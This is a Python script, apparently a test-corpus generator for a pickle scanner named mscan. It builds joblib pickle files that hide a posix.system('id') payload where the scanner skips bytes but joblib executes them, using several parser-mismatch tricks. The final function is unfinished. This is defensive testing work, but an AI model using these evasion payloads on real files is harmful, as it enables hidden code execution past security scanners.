#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright (c) 2026 The mscan authors
"""Writes corpus/malicious/joblib_rt_J*.pkl: joblib NumpyArrayWrapper streams whose array
bytes a reader could skip wrongly (state elsize on a non-flexible dtype, repeated dict keys,
a dotted class path, BUILD slot-state) with a payload joblib would run after them. Found by
a red-team pass; standard library only; never unpickled. (The P1/P2 samples, a wrapper in a
plain pickle and in a torch zip, are hand edits of these.) Run in corpus/malicious/."""
import struct
def u(s):  # BINUNICODE
    b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
def glob(m,n): return b'c'+m.encode()+b'\n'+n.encode()+b'\n'
def dtype(ts, state):
    # numpy.dtype(ts, False, True) + BUILD state (tuple of python values)
    return glob('numpy','dtype')+u(ts)+b'\x89\x88\x87R'+tup(state)+b'b'
def val(v):
    if v is None: return b'N'
    if v is True: return b'\x88'
    if v is False: return b'\x89'
    if isinstance(v,int):
        return b'J'+struct.pack('<i',v)
    if isinstance(v,str): return u(v)
    if isinstance(v,bytes): return b'C'+bytes([len(v)])+v
    if isinstance(v,tuple): return tup(v)
    if isinstance(v,(bytes,bytearray)): return v
    raise TypeError(v)
def tup(t): return b'('+b''.join(val(x) if not isinstance(x,Raw) else x.b for x in t)+b't'
class Raw:
    def __init__(s,b): s.b=b
def wrapper(items, path=('joblib.numpy_pickle','NumpyArrayWrapper')):
    # items: list of (key, rawbytes)
    return glob(*path)+b')\x81}('+b''.join(u(k)+v for k,v in items)+b'u'+b'b'
def payload(cmd='id', benign=False):
    if benign: return glob('builtins','print')+b'('+u('PWNED '+cmd)+b'tR'
    return glob('posix','system')+b'('+u(cmd)+b'tR'
F8=dtype('f8',(3,'<',None,None,None,-1,-1,0))
def build(name, head_items, data, gap_bytes, path=('joblib.numpy_pickle','NumpyArrayWrapper'), proto=2, tail=b'.'):
    # gap_bytes: how many bytes after `data` mscan skips but joblib executes
    for benign in (False,):  # the twins (print instead of id) are not kept
        p = payload('id', benign)
        if gap_bytes is not None:
            assert len(p) <= gap_bytes, (name, len(p), gap_bytes)
            p = p + b'N'*(gap_bytes-len(p))
        body = bytes([0x80,proto]) + wrapper(head_items, path) + data + p + tail
        open('joblib_rt_' + name + ('_twin.pkl' if benign else '.pkl'),'wb').write(body)
sh=lambda *n: Raw(tup(n)) if False else tup(n)
# J1: non-flexible dtype with state elsize 100: mscan skips 100 bytes, numpy itemsize 8
build('J1_elsize', [('subclass',glob('numpy','ndarray')),('shape',tup((1,))),('order',u('C')),('dtype',dtype('f8',(3,'<',None,None,None,100,8,0)))], b'\0'*8, 92)
# J2: duplicate shape key: mscan first (13,), python dict last (1,)
build('J2_dupshape', [('subclass',glob('numpy','ndarray')),('shape',tup((13,))),('order',u('C')),('dtype',F8),('shape',tup((1,)))], b'\0'*8, 96)
# J3: duplicate dtype key: V104 first, f8 last
build('J3_dupdtype', [('subclass',glob('numpy','ndarray')),('shape',tup((1,))),('order',u('C')),('dtype',dtype('V104',(3,'|',None,None,None,104,1,0))),('dtype',F8)], b'\0'*8, 96)
# J4: duplicate alignment key: first 16 (mscan reads pad byte = first data byte 0x40 -> skips 1+64), last None
build('J4_dupalign', [('subclass',glob('numpy','ndarray')),('shape',tup((1,))),('order',u('C')),('dtype',F8),('numpy_array_alignment_bytes',val(16)),('numpy_array_alignment_bytes',b'N')], b'\x40'+b'\0'*7, 65)
# J5: wrapper through dotted name (protocol 4 find_class): mscan does not skip; data bytes = BINBYTES header swallowing payload
def j5():
    for benign in (False,True):
        p = payload('id', benign)
        data = b'B' + struct.pack('<I', len(p)+3) + b'\0'*3   # 8 bytes of f8 data for joblib
        body = b'\x80\x04' + wrapper([('subclass',glob('numpy','ndarray')),('shape',tup((1,))),('order',u('C')),('dtype',F8)], ('joblib','numpy_pickle.NumpyArrayWrapper')) + data + p + b'0.'
        open('joblib_rt_J5_dotted' + ('_twin.pkl' if benign else '.pkl'),'wb').write(body)
j5()
# J6: state as (dict, slotstate) tuple
def j6():
    for benign in (False,True):
        body = b'\x80\x02' + glob('joblib.numpy_pickle','NumpyArrayWrapper')+b')\x81' + b'N}(' + u('subclass')+glob('numpy','ndarray')+u('shape')+tup((1,))+u('order')+u('C')+u('dtype')+F8 + b'u\x86b' + b'\0'*8 + payload('id',benign) + b'.'
        open('joblib_rt_J6_slotstate' + ('_twin.pkl' if benign else '.pkl'),'wb').write(body)
j6()
def j7():
    for benign in (False,True):
        p = payload('id', benign)
        st1=[('subclass',glob('numpy','ndarray')),('shape',tup((1,))),('order',u('C')),('dtype',F8),('numpy_array_alignment_bytes',val(16))]
        body = b'\x80\x02' + glob('joblib.numpy_pickle','NumpyArrayWrapper')+b')\x81q\x00}('+b''.join(k and u(k)+v for k,v in st1)+b'ub'
        body += b'\x00' + b'\0'*8          # pad byte 0 + 8 data bytes (both agree)
        body += b'0h\x00}(' + u('shape')+tup((1,))+u('dtype')+F8 + b'ub'   # POP array, GET wrapper, BUILD again without alignment key
        # joblib: pad byte (=0x42 'B'...) read; mscan: no pad byte. Use pad byte value 0 -> joblib reads 1 extra byte.
        # joblib reads: [pad=0x00][8 data]; mscan reads [8 data] then opcodes.
        data = b'\x00' + b'B' + struct.pack('<I', len(p)+0) + b'\0\0'   # joblib: pad 0 + 8 bytes; mscan: 8 bytes = '\0'+'B'+len+'\0\0'? 
        body += data
